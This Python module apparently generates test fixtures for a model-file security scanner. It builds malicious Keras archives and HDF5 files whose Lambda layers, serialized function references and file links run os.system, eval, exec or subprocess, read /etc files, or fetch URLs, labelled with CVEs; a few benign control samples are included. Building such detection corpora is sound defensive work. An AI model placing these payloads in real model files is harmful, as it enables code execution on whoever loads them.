"""Keras models, as archives and as HDF5: code in Lambda layers, names that are resolved, files that are read.

Keras is not among the project's tools, so the files are written by hand after what Keras 3 writes (see
``tests/data/models/keras`` for files of its own).
"""

from __future__ import annotations

import base64
import io
import json
import marshal
from collections.abc import Callable, Iterator
from typing import Any

from corpus.opcodes import EVIL
from corpus.sample import CANARY, CODE, SHELL, Draft, other
from corpus.zip_making import Entry, torch_entries, zip_of

Json = dict[str, Any]
DENSE = {"units": 3, "activation": "relu", "use_bias": True, "name": "hidden", "trainable": True, "dtype": "float32"}


def layer(class_: str, config: Json, module: str = "keras.layers", registered: str | None = None) -> Json:
    """One serialised object."""
    return {"module": module, "class_name": class_, "config": config, "registered_name": registered}


def function(module: str, name: str) -> Json:
    """A serialised function, which Keras finds by its path."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def lambda_of(expression: str) -> Json:
    """A Lambda layer with its function's marshalled code."""
    code = base64.b64encode(marshal.dumps(eval(f"lambda x: {expression}").__code__)).decode()
    value = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    return layer(
        "Lambda", {"name": "lambda", "trainable": True, "dtype": "float32", "function": value, "arguments": {}}
    )


def sequential(*layers: Json, **more: Any) -> Json:
    """A model."""
    first = layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"})
    config = {"name": "sequential", "trainable": True, "layers": [first, layer("Dense", DENSE), *layers]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None, **more}


def functional(node: Json, args: list[Any], kwargs: Json) -> Json:
    """A model whose node is called with these arguments."""
    layers = [
        layer("InputLayer", {"batch_shape": [None, 4], "dtype": "float32", "name": "input"})
        | {"name": "input", "inbound_nodes": []},
        node | {"name": "node", "inbound_nodes": [{"args": args, "kwargs": kwargs}]},
    ]
    config = {
        "name": "functional",
        "trainable": True,
        "layers": layers,
        "input_layers": [["input", 0, 0]],
        "output_layers": [["node", 0, 0]],
    }
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": config,
        "registered_name": "Functional",
    }


def weights(fill: Callable[[Any], object] | None = None) -> bytes:
    """``model.weights.h5``."""
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        variables = file.create_group("layers/dense/vars")
        variables["0"], variables["1"] = [[0.5] * 3] * 4, [0.0] * 3
        if fill:
            fill(file)
    return buffer.getvalue()


def archive(config: Json, data: bytes | None = None, *more: Entry, deflate: bool = False) -> bytes:
    """A ``.keras`` file."""
    metadata = {"keras_version": "3.9.0", "date_saved": "2026-01-02@03:04:05"}
    return zip_of(
        [
            Entry("metadata.json", json.dumps(metadata).encode()),
            Entry("config.json", json.dumps(config).encode(), deflate=deflate),
            Entry("model.weights.h5", weights() if data is None else data),
            *more,
        ]
    )


def hdf5(config: Json, training: Json | None = None) -> bytes:
    """A model in Keras's older format."""

    def fill(file: Any) -> None:
        file.attrs["keras_version"], file.attrs["backend"] = "2.15.0", "tensorflow"
        file.attrs["model_config"] = json.dumps(config)
        if training:
            file.attrs["training_config"] = json.dumps(training)

    return weights(fill)


def torch_wrapper() -> Json:
    """A layer that unpickles its configuration."""
    value = {"class_name": "__bytes__", "config": {"value": zip_of(torch_entries(EVIL)).decode("latin1")}}
    return layer("TorchModuleWrapper", {"name": "torch", "module": value})


def attacks() -> dict[str, tuple[Json, str]]:
    """Configurations and advisories; each is written in both formats."""
    evil = lambda_of(f"__import__('os').system({SHELL!r})")
    lookup = {"name": "lookup", "max_tokens": None, "num_oov_indices": 1, "invert": False}
    get_file = functional(
        function("keras.utils", "get_file"), [CANARY], {"origin": f"http://127.0.0.1:9/{CANARY}", "cache_dir": "."}
    )
    return {
        "lambda": (sequential(evil), ""),
        "lambda-eval": (sequential(lambda_of(f"eval({CODE!r})")), ""),
        "lambda-exec-nested": (sequential(lambda_of(f"(lambda: exec({CODE!r}))()")), ""),
        "lambda-subprocess": (sequential(lambda_of(f"__import__('subprocess').run(['touch', {CANARY!r}])")), ""),
        "lambda-in-sequential": (sequential(sequential(evil)), ""),
        "lambda-in-time-distributed": (sequential(layer("TimeDistributed", {"name": "each", "layer": evil})), ""),
        "lambda-in-bidirectional": (
            sequential(layer("Bidirectional", {"name": "both", "layer": evil, "backward_layer": evil})),
            "",
        ),
        "lambda-initializer": (
            sequential(layer("Dense", DENSE | {"kernel_initializer": evil["config"]["function"]})),
            "",
        ),
        "typespec": (
            sequential(
                layer(
                    "Dense",
                    DENSE
                    | {
                        "signature": {
                            "class_name": "__typespec__",
                            "module": "os",
                            "spec_name": "system",
                            "config": [SHELL],
                            "registered_name": None,
                        }
                    },
                )
            ),
            "CVE-2025-1550",
        ),
        "function-func-load": (
            functional(function("keras.src.utils.python_utils", "func_load"), [CANARY], {}),
            "CVE-2025-1550",
        ),
        "function-numpy-load": (
            functional(function("numpy", "load"), [CANARY], {"allow_pickle": True}),
            "CVE-2025-1550",
        ),
        "module-os": (sequential(layer("system", {"command": SHELL}, "os")), "CVE-2025-1550"),
        "module-subprocess": (
            sequential(layer("Popen", {"args": SHELL, "shell": True}, "subprocess")),
            "CVE-2025-1550",
        ),
        "module-builtins": (sequential(layer("exec", {"_args": CODE}, "builtins")), "CVE-2025-1550"),
        "function-os": (functional(function("os", "system"), [SHELL], {}), "CVE-2025-1550"),
        "function-subprocess": (functional(function("subprocess", "run"), [["touch", CANARY]], {}), "CVE-2025-1550"),
        "function-get-file": (get_file, "CVE-2025-8747"),
        "function-unsafe": (
            functional(function("keras.config", "enable_unsafe_deserialization"), [], {}),
            "CVE-2025-9906",
        ),
        "activation-os": (
            sequential(layer("Dense", DENSE | {"activation": function("os", "system")})),
            "CVE-2025-1550",
        ),
        "torch-wrapper": (sequential(torch_wrapper()), "CVE-2025-49655"),
        "vocabulary-file": (
            sequential(layer("StringLookup", lookup | {"vocabulary": f"/etc/{CANARY}"})),
            "CVE-2025-12058",
        ),
        "vocabulary-url": (
            sequential(layer("TextVectorization", lookup | {"vocabulary": f"http://127.0.0.1:9/{CANARY}"})),
            "CVE-2025-12058",
        ),
        "compile-loss": (
            sequential(compile_config={"optimizer": "adam", "loss": function("os", "system"), "metrics": None}),
            "CVE-2025-1550",
        ),
        "compile-metric-lambda": (
            sequential(compile_config={"optimizer": "adam", "loss": "mse", "metrics": [evil["config"]["function"]]}),
            "",
        ),
    }


def drafts() -> Iterator[Draft]:
    """Attacks, and layers whose code does nothing bad."""
    for technique, (config, cve) in attacks().items():
        yield other(f"keras-{technique}", {"model.keras": archive(config)}, cve=cve)
        if technique in (
            "lambda",
            "lambda-in-sequential",
            "function-get-file",
            "vocabulary-file",
            "torch-wrapper",
            "module-os",
            "lambda-eval",
        ):
            yield other(f"h5-{technique}", {"model.h5": hdf5(config)}, cve=cve or "CVE-2025-9905")
    evil = attacks()["lambda"][0]
    yield other("keras-deflated", {"model.keras": archive(evil, deflate=True)})
    yield other("keras-named", {"model.zip": archive(evil)})
    good = archive(sequential())
    yield other(
        "keras-double-config",
        {"model.keras": archive(sequential(), None, Entry("config.json", json.dumps(evil).encode()))},
    )
    yield other("keras-behind-a-prefix", {"model.keras": b"#!/bin/true\n" + bytes(40) + archive(evil)})
    yield other("keras-after-another", {"model.keras": good + archive(evil)})
    yield other(
        "keras-asset-pickle", {"model.keras": archive(sequential(), None, Entry("assets/vocabulary.pkl", EVIL))}
    )
    yield other(
        "h5-training-loss",
        {
            "model.h5": hdf5(
                sequential(),
                {"loss": {"class_name": "Lambda", "config": attacks()["lambda"][0]["config"]["layers"][-1]["config"]}},
            )
        },
    )

    def external(file: Any) -> None:
        file.create_dataset("layers/dense/vars/2", (10,), "u1", external=[(f"/etc/{CANARY}", 0, 10)])

    def link(file: Any) -> None:
        import h5py

        file["layers/dense/vars/2"] = h5py.ExternalLink(f"/etc/{CANARY}.h5", "/x")

    def virtual(file: Any) -> None:
        import h5py

        layout = h5py.VirtualLayout((10,), "u1")
        layout[:] = h5py.VirtualSource(f"/etc/{CANARY}.h5", "x", (10,))
        file.create_virtual_dataset("layers/dense/vars/2", layout)

    for technique, fill in (("external-data", external), ("external-link", link), ("virtual-data", virtual)):
        yield other(f"h5-{technique}", {"model.weights.h5": weights(fill)}, cve="CVE-2026-1669")
        yield other(f"keras-{technique}", {"model.keras": archive(sequential(), weights(fill))}, cve="CVE-2026-1669")
    for technique, model in (("doubled", lambda_of("x * 2")), ("scaled", lambda_of("(x - 0.5) / 255"))):
        yield Draft(
            f"keras-lambda-{technique}",
            {"model.keras": archive(sequential(model))},
            label="code",
            family="other",
            harm="none",
        )
    yield Draft(
        "h5-lambda", {"model.h5": hdf5(sequential(lambda_of("x + 1")))}, label="code", family="other", harm="none"
    )
